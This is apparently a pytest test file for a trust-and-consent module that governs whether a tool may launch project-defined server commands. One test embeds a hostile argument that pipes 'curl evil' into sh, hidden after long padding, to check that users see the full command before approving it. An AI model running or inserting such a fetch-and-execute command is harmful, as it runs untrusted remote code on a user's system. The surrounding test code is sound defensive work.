import json
import os
import stat
from pathlib import Path

import pytest

from packbelt.catalog.workspace import ServerSpec
from packbelt.live.trust import Consent, Trust, TrustError, config_directory, describe


def spec(name, digest="sha256:aa", **fields):
    return ServerSpec(name, "stdio", command="run", digest=digest, **fields)


@pytest.fixture
def home(tmp_path):
    return {"XDG_CONFIG_HOME": str(tmp_path / "config")}


@pytest.fixture
def place(tmp_path, workspace):
    root = tmp_path / "project"
    root.mkdir()
    return workspace(spec("a"), spec("b", "sha256:bb"), root=root)


def names(verdict):
    return [one.name for one in verdict.trusted], dict(verdict.refused)


def test_nothing_is_trusted_by_itself(place, home):
    verdict = Trust.of_user(home).resolve(place)
    assert names(verdict) == ([], {"a": "not trusted", "b": "not trusted"})
    assert "\n" not in verdict.line
    assert all(word in verdict.line for word in (str(place.root), "--trust", "PACKBELT_TRUST", "a", "b"))


def test_the_callers_word(place, home):
    verdict = Trust.of_user(home).resolve(place, granted=True)
    assert names(verdict) == (["a", "b"], {})
    assert verdict.line == ""
    assert names(Trust.of_user(home).resolve(place))[0] == []


def test_no_server_needs_no_trust_and_no_question(workspace, home):
    verdict = Trust.of_user(home).resolve(workspace(), ask=lambda *_: pytest.fail("asked"))
    assert names(verdict) == ([], {})


def test_a_directory_of_the_variable(place, home, tmp_path):
    listed = os.pathsep.join([str(tmp_path / "other"), "", str(place.root)])
    assert names(Trust.of_user({**home, "PACKBELT_TRUST": listed}).resolve(place))[0] == ["a", "b"]


def test_a_symlink_is_the_directory_it_leads_to(place, home, tmp_path):
    link = tmp_path / "link"
    link.symlink_to(place.root)
    assert names(Trust.of_user({**home, "PACKBELT_TRUST": str(link)}).resolve(place))[0] == ["a", "b"]


@pytest.mark.parametrize("entry", ["{parent}", "{root}/sub", ".", "project", "", "{root}x", os.pathsep])
def test_other_entries_of_the_variable_trust_nothing(place, home, monkeypatch, entry):
    monkeypatch.chdir(place.root)
    listed = entry.format(parent=place.root.parent, root=place.root)
    assert names(Trust.of_user({**home, "PACKBELT_TRUST": listed}).resolve(place))[0] == []


def test_a_person_is_asked_about_what_is_in_doubt(place, home):
    asked = []

    def ask(root, specs):
        asked.append((root, [one.name for one in specs]))
        return Consent.ONCE

    trust = Trust.of_user(home)
    assert names(trust.resolve(place, ask=ask)) == (["a", "b"], {})
    assert asked == [(place.root, ["a", "b"])]
    assert not trust.file.exists()
    assert names(trust.resolve(place, ask=lambda *_: Consent.NO)) == ([], {"a": "declined", "b": "declined"})


def test_always_is_remembered_for_this_definition_in_this_directory(place, home, workspace, tmp_path):
    trust = Trust.of_user(home)
    trust.resolve(place, ask=lambda *_: Consent.ALWAYS)
    assert names(Trust.of_user(home).resolve(place, ask=lambda *_: pytest.fail("asked")))[0] == ["a", "b"]

    edited = workspace(spec("a", "sha256:ff"), spec("b", "sha256:bb"), spec("c"), root=place.root)
    assert names(trust.resolve(edited)) == (
        ["b"],
        {"a": "its definition changed since it was trusted", "c": "not trusted"},
    )
    elsewhere = workspace(spec("a"), root=tmp_path)
    assert names(trust.resolve(elsewhere)) == ([], {"a": "not trusted"})


def test_remembering_keeps_what_was_there(place, home, workspace, tmp_path):
    trust = Trust.of_user(home)
    other = workspace(spec("x"), root=tmp_path)
    trust.remember(place, [spec("a")])
    trust.remember(other, [spec("x")])
    trust.remember(place, [spec("b", "sha256:bb")])
    assert names(trust.resolve(place))[0] == ["a", "b"]
    assert names(trust.resolve(other))[0] == ["x"]


def test_a_definition_without_a_digest_is_never_remembered(workspace, home, tmp_path):
    made = workspace(spec("a", digest=""), root=tmp_path)
    trust = Trust.of_user(home)
    trust.resolve(made, ask=lambda *_: Consent.ALWAYS)
    assert names(trust.resolve(made)) == ([], {"a": "not trusted"})


def test_the_file_is_the_users_alone_and_whole(place, home):
    trust = Trust.of_user(home)
    trust.remember(place, list(place.servers.values()))
    assert stat.S_IMODE(trust.file.stat().st_mode) == 0o600
    assert [path.name for path in trust.file.parent.iterdir()] == ["trust.json"]
    assert json.loads(trust.file.read_text()) == {
        "version": 1,
        "trusted": {str(place.root): {"a": "sha256:aa", "b": "sha256:bb"}},
    }


def test_a_write_that_fails_leaves_the_old_file(place, home, monkeypatch):
    trust = Trust.of_user(home)
    trust.remember(place, [spec("a")])
    before = trust.file.read_bytes()

    def fail(_):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("packbelt.live.private.os.fsync", fail)
    with pytest.raises(TrustError, match="No space left on device"):
        trust.remember(place, [spec("b")])
    assert trust.file.read_bytes() == before
    assert [path.name for path in trust.file.parent.iterdir()] == ["trust.json"]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "{",
        "[]",
        "null",
        '{"version": 1}',
        '{"version": 2, "trusted": {}}',
        '{"version": 1, "trusted": {"/": 3}}',
    ],
)
def test_a_file_that_is_none_is_refused_with_a_mend(place, home, text):
    trust = Trust.of_user(home)
    trust.file.parent.mkdir(parents=True)
    trust.file.write_text(text)
    trust.file.chmod(0o600)
    with pytest.raises(TrustError, match="remove it") as raised:
        trust.resolve(place)
    assert raised.value.where.file == str(trust.file)
    assert names(trust.resolve(place, granted=True))[0] == ["a", "b"]


def test_a_file_that_others_can_write_is_refused(place, home):
    trust = Trust.of_user(home)
    trust.remember(place, list(place.servers.values()))
    trust.file.chmod(0o620)
    with pytest.raises(TrustError, match="chmod 600"):
        trust.resolve(place)


def test_where_the_file_is():
    assert config_directory({"XDG_CONFIG_HOME": "/x/y", "HOME": "/h"}) == Path("/x/y/packbelt")
    assert config_directory({"XDG_CONFIG_HOME": "relative", "HOME": "/h"}).is_relative_to("/h")
    assert config_directory({"HOME": "/h"}).name == "packbelt"


def test_a_description_is_one_line_as_the_file_has_it():
    made = spec("a", args=("-x", "evil\x1b[2J\nline", "${TOKEN}"), env={"KEY": "sk-secret"})
    assert describe(made) == "a: run -x 'evil line' '${TOKEN}' (sets KEY)"
    web = ServerSpec("w", "http", url="https://x/${T}", headers={"Authorization": "Bearer ${T}"})
    assert describe(web) == "w: https://x/${T} (sets Authorization)"


def test_whoever_is_asked_sees_the_whole_command_and_where_each_argument_ends():
    told = describe(spec("a", args=("-c", "echo harmless " + "x" * 3000 + "; curl evil | sh", "--quiet")))
    assert told.endswith("; curl evil | sh' --quiet")
    assert told.startswith("a: run -c 'echo harmless xxx")


def test_a_refusal_says_each_reason_once(home, workspace, tmp_path):
    made = workspace(*(spec(f"s{i}") for i in range(20)), root=tmp_path)
    trust = Trust.of_user(home)
    trust.remember(made, [spec("s3", "sha256:old")])
    line = trust.resolve(made).line
    assert line.count("not trusted") == 1
    assert "not started (not trusted): s0, s1, s2, s4, s5, s6, s7, s8 and 11 more; " in line
    assert "not started (its definition changed since it was trusted): s3; " in line


@pytest.mark.parametrize(
    ("said", "answer"),
    [
        *((said, Consent.NO) for said in ("n", "no", "NO", " N ")),
        *((said, Consent.ONCE) for said in ("y", "yes", "o", "once", "Yes", "O")),
        *((said, Consent.ALWAYS) for said in ("a", "always", "ALWAYS")),
        *((said, None) for said in ("", "nope", "yesterday", "alwa", "1")),
    ],
)
def test_answers_as_people_type_them(said, answer):
    assert Consent.of(said) is answer
